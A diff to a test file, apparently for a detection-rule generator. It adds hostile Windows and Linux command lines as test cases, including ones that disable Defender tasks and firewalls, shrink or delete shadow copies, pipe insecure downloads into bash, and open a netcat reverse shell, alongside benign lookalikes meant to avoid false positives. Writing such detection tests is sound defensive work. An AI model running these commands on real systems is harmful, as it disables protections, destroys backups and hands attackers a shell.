@@ -32,7 +32,14 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
     'powershell -c "Stop-Service -Name WinDefend -Force; Set-Service -Name WinDefend -StartupType Disabled"',
   ],
   ['defender-exclusion', 'windows', 'Add-MpPreference -ExclusionPath C:\\ProgramData\\cache'],
+  [
+    'security-scheduled-task-disabled',
+    'windows',
+    'schtasks /Change /TN "Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan" /Disable',
+  ],
   ['netsh-firewall-off', 'windows', 'netsh advfirewall set allprofiles state off'],
+  ['netsh-firewall-opmode-off', 'windows', 'netsh firewall set opmode mode=disable'],
+  ['vssadmin-resize-shadowstorage', 'windows', 'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB'],
   ['netsh-portproxy', 'windows', 'netsh interface portproxy add v4tov4 listenport=4443 connectaddress=10.1.2.3 connectport=3389'],
   ['net-user-add', 'windows', 'net user svc_backup P@ssw0rd1 /add'],
   ['net-admin-group-add', 'windows', 'net localgroup Administrators svc_backup /add'],
@@ -113,6 +120,8 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
   ['meshagent-install', 'windows', 'C:\\Users\\Public\\svc64.exe -fullinstall'],
   ['cloudflared-tunnel', 'windows', 'C:\\ProgramData\\cf.exe tunnel --no-autoupdate run --token eyJhIjoiMDAwIn0='],
   ['ip-download-pipe-shell', 'linux', 'curl -s http://198.51.100.23/i.sh | sh'],
+  ['insecure-download-pipe-shell', 'linux', 'if ! type quill; then curl -sLk $SRC/q/set/quill.sh | bash ; fi'],
+  ['insecure-download-pipe-shell', 'linux', 'wget --no-check-certificate -qO- https://quill.example/i.sh | sudo bash'],
   ['env-secrets-grep', 'linux', 'env | grep -i token > /tmp/.t'],
   ['netcat-shell', 'linux', 'nc -e /bin/sh 198.51.100.30 4444'],
   ['sudoers-nopasswd', 'linux', 'echo "svc ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers'],
@@ -194,7 +203,7 @@ describe('well-known techniques: rules keyed on the behaviour', () => {
       platform: 'windows',
       cmdlines: [
         'vssadmin delete shadows /all /quiet',
-        'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB',
+        'vssadmin.exe Delete Shadows /For=C: /Quiet',
         'rundll32.exe C:\\ProgramData\\Intel\\upd.dll,Start',
       ].map((value) => ({ ...item, value })),
     });
@@ -238,6 +247,21 @@ describe('well-known techniques: rules keyed on the behaviour', () => {
     expect(titlesOf('echo 1 | tee -a /etc/quill/quill.conf')).toEqual(['System Configuration Written Via Tee']);
   });
 
+  it('calls a disabled Defender or update task defence impairment, and leaves other task changes to the schtasks rule', () => {
+    const titlesOf = (value: string) =>
+      generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value }] }).map((draft) => draft.rule.title);
+    expect(titlesOf('schtasks /change /tn "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan" /disable')).toEqual([
+      'Security Or Update Scheduled Task Disabled Via Schtasks.EXE',
+    ]);
+    // Turning the scan back on, or disabling the intruder's own task, is no impairment of a defence.
+    expect(titlesOf('schtasks /change /tn "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan" /enable')).toEqual([
+      'Scheduled Task Change Via Schtasks.EXE',
+    ]);
+    expect(titlesOf('schtasks /change /tn "QuillSync" /disable')).not.toContain(
+      'Security Or Update Scheduled Task Disabled Via Schtasks.EXE',
+    );
+  });
+
   it('keys PsExec on a remote host or a host list, not on any path', () => {
     const [rule] = generateBuiltinRules({
       article,
@@ -256,6 +280,11 @@ describe('well-known techniques: rules keyed on the behaviour', () => {
 
   it.each([
     ['linux', 'curl -fsSL https://get.example.org/install.sh | sh'],
+    ['linux', 'curl -k https://10.0.0.5:8443/health'],
+    ['windows', 'vssadmin list shadows /for=C:'],
+    ['windows', 'netsh advfirewall set allprofiles state on'],
+    ['windows', 'netsh firewall set opmode mode=enable'],
+    ['linux', 'curl -sk https://quill.example/status | grep -q ok'],
     ['linux', 'base64 -d cert.b64 | sha256sum'],
     ['linux', 'crontab -l'],
     ['linux', "echo '*/30 * * * * /usr/local/bin/backup' | crontab -"],
